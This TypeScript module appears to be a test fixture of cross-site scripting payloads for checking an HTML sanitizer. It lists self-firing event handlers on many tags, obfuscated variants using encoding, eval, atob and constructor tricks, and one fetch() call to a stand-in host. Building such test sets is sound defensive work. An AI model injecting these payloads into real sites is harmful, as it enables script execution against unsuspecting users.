/** Every kind of event attribute, on elements that have it fire by themselves where there are such. */
import { RUN } from './run.js';

const BY_THEMSELVES: readonly (readonly [tag: string, attributes: string, handlers: string])[] = [
  ['input', 'autofocus', 'onfocus onfocusin onblur onfocusout'],
  ['svg', '', 'onload onbegin'],
  [
    'body',
    '',
    'onpageshow onresize onscroll onhashchange onmessage onpopstate onunload onbeforeunload onstorage',
  ],
  ['img', 'src=data:image/gif;base64,R0lGODlhAQABAAAAACw=', 'onload onloadend onloadstart onprogress'],
  [
    'video',
    'autoplay src=x',
    'oncanplay onloadedmetadata onstalled onsuspend onemptied ondurationchange ontimeupdate',
  ],
  [
    'div',
    'style="animation:x 1ms"',
    'onanimationstart onanimationend onanimationiteration onanimationcancel',
  ],
  [
    'div',
    'style="transition:1ms" tabindex=1',
    'ontransitionrun ontransitionstart ontransitionend ontransitioncancel',
  ],
  ['marquee', 'loop=1 width=0', 'onstart onfinish onbounce'],
  ['details', 'open', 'ontoggle onbeforetoggle'],
  ['div', 'contenteditable', 'onbeforeinput oninput onbeforecopy oncopy oncut onpaste oncompositionstart'],
  [
    'a',
    'href=# accesskey=x',
    'onclick onauxclick ondblclick oncontextmenu onmousedown onmouseenter onmouseover onmousewheel',
  ],
  ['div', 'draggable=true', 'ondrag ondragstart ondragend ondragenter ondragover ondrop'],
  [
    'div',
    '',
    'onpointerrawupdate onpointerover onpointerenter onpointerdown ongotpointercapture ontouchstart onwheel',
  ],
  ['form', '', 'onsubmit onreset onformdata oninvalid onchange onselect onsearch'],
  [
    'div',
    '',
    'onkeydown onkeypress onkeyup onscrollend onscrollsnapchange oncontentvisibilityautostatechange',
  ],
  [
    'div',
    '',
    'onsecuritypolicyviolation onslotchange oncommand onbeforematch onfullscreenchange oncuechange',
  ],
];

export const HANDLERS: readonly string[] = [
  ...BY_THEMSELVES.flatMap(([tag, attributes, handlers]) =>
    handlers.split(' ').map((handler) => `<${tag} ${attributes} ${handler}="${RUN}">go</${tag}>`),
  ),
  // ways of writing them
  `<svg/onload=${RUN}>`,
  `<svg\nonload\n=\n${RUN}>`,
  `<svg\tonload="${RUN}">`,
  `<svg\fonload='${RUN}'>`,
  `<svg onload=${RUN}//`,
  `<svg/////onload=${RUN}>`,
  `<svg """onload=${RUN}>`,
  `<svg x=">" onload=${RUN}>`,
  `<svg onload\u0000=${RUN}>`,
  `<svg oNlOaD=${RUN}>`,
  `<svg onload=\`${RUN}\`>`,
  `<svg onload="javascript:${RUN}">`,
  `<svg onload="${RUN.replace('window', '&#119;indow')}">`,
  `<svg onload="eval('\\x77indow.__pwned=1')">`,
  `<svg onload=eval(atob('d2luZG93Ll9fcHduZWQ9MQ=='))>`,
  `<svg onload=setTimeout\`window.__pwned=1\`>`,
  `<svg onload=[].constructor.constructor\`${RUN}\`\`\`>`,
  `<svg onload=import('data:text/javascript,${RUN}')>`,
  `<svg onload=alert(1)>`,
  `<svg onload=fetch('https://pwned.test/f')>`,
];
